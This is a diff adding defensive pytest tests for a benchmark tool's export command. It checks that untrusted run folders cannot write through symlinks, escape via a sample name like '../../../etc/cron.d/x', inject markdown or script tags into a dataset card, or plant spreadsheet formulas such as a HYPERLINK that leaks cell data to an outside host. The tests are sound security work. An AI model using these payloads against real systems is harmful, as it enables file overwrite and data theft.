@@ -1,0 +1,136 @@
+"""Exports of a run folder that somebody else wrote: nothing is written elsewhere, and no value is taken for granted."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+from collections.abc import AsyncIterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from lotbench.cli import main
+from lotbench.edge.files.jsonl import sealed
+from lotbench.integrations import EXPORTERS, inspect_log
+from lotbench.run.rescore import Transcript
+from lotbench.run.results import Run
+from tests.old_runs import FOLDER, RUNS
+
+GAME = next(name for name in RUNS if "-lotbench-" in name)
+
+
+@pytest.fixture
+def run(tmp_path: Path) -> Path:
+    """A copy of a recorded game."""
+    copy = tmp_path / "runs" / GAME
+    shutil.copytree(FOLDER / GAME, copy)
+    return copy
+
+
+def changed(file: Path, line: int, **fields: Any) -> None:
+    """Write other values into a line of a file of a run."""
+    lines = file.read_bytes().splitlines(keepends=True)
+    table = json.loads(lines[line])
+    table.pop("crc", None)
+    lines[line] = sealed(table | fields)
+    file.write_bytes(b"".join(lines))
+
+
+@pytest.mark.parametrize("started", [1e300, -1e300, 10**400], ids=["late", "early", "long"])
+@pytest.mark.parametrize("tool", ["inspect", "otel"])
+def test_a_time_that_is_none_is_no_traceback(tool: str, started: float, run: Path, tmp_path: Path) -> None:
+    changed(run / "calls.jsonl", 0, started=started)
+    assert main(["export", str(run), "--to", tool, "--out", str(tmp_path / "out")]) == 0
+
+
+@pytest.mark.parametrize("tool", EXPORTERS)
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [("n_samples", None), ("scores", {"a": {"value": 1.0}}), ("usage", {"calls": 1, "cost_usd": None})],
+)
+def test_a_summary_that_lacks_what_is_exported_is_refused_by_field(
+    tool: str, field: str, value: Any, run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    summary = run / "summary.json"
+    summary.write_text(json.dumps({**json.loads(summary.read_text()), field: value}))
+    assert main(["export", str(run), "--to", tool, "--out", str(tmp_path / "out")]) == 2
+    assert f"summary.json: {field}" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("tool", EXPORTERS)
+def test_nothing_is_written_through_a_link_in_the_run_folder(
+    tool: str, run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    (run / "export").symlink_to(home)
+    for out in (run / "export", run / "export" / "deeper"):
+        assert main(["export", str(run), "--to", tool, "--out", str(out)]) == 2
+        assert "nothing is written through one" in capsys.readouterr().err
+    assert main(["export", str(run), "--out", str(run / "export" / "rows.csv")]) == 2
+    assert not list(home.iterdir())
+
+
+def test_an_out_that_is_a_file_is_said(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["export", str(run), "--to", "otel", "--out", str(run / "run.json")]) == 2
+    assert "run.json" in capsys.readouterr().err
+
+
+def test_a_sample_s_name_is_no_way_out_of_a_log(
+    run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    read = inspect_log.transcripts
+
+    async def renamed(run: Run) -> AsyncIterator[Transcript]:
+        async for walk in read(run):
+            yield replace(walk, trace=replace(walk.trace, sample="../../../etc/cron.d/x"))
+
+    monkeypatch.setattr(inspect_log, "transcripts", renamed)
+    out = tmp_path / "out"
+    assert main(["export", str(run), "--to", "inspect", "--out", str(out)]) == 2
+    assert "can be no name of a file" in capsys.readouterr().err
+    assert not list(out.iterdir())
+
+
+def test_a_card_has_no_line_that_a_run_wrote(run: Path, tmp_path: Path) -> None:
+    summary = run / "summary.json"
+    told = json.loads(summary.read_text())
+    told |= {
+        "models": {"candidate": ["m\n\n# Owned\n<script>x</script>"]},
+        "reasons": ["because\n---\nlicense: mine"],
+        "rankable": False,
+        "arm": "x\n# Owned",
+    }
+    summary.write_text(json.dumps(told))
+    assert main(["export", str(run), "--to", "huggingface", "--out", str(tmp_path / "out")]) == 0
+    card = (tmp_path / "out" / "walks_data_set" / "README.md").read_text()
+    assert not [line for line in card.splitlines() if line.startswith(("# Owned", "license:"))]
+    assert "<script>" not in card
+
+
+def test_no_cell_of_a_table_is_a_formula(run: Path, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://elsewhere/?"&A1)'
+    changed(
+        run / "traces.jsonl", 0, why=formula, score={"value": -1.5, "why": "-2+3", "parts": {"@SUM(A1)": 1}}
+    )
+    out = tmp_path / "rows.csv"
+    assert main(["export", str(run), "--out", str(out)]) == 0
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
+    cells = [cell for row in rows for cell in row]
+    assert f"'{formula}" in cells and "-1.5" in cells and "parts.@SUM(A1)" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@")) or cell.startswith("-2")]
+
+
+def test_half_a_character_in_a_walk_is_damage(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    traces = run / "traces.jsonl"
+    lines = traces.read_text(encoding="utf-8").splitlines(keepends=True)
+    table = json.loads(lines[0])
+    table.pop("crc", None)
+    lines[0] = json.dumps({**table, "why": "\ud800"}) + "\n"
+    traces.write_text("".join(lines), encoding="utf-8")
+    assert main(["export", str(run)]) == 2
+    assert "traces.jsonl:1: damaged" in capsys.readouterr().err
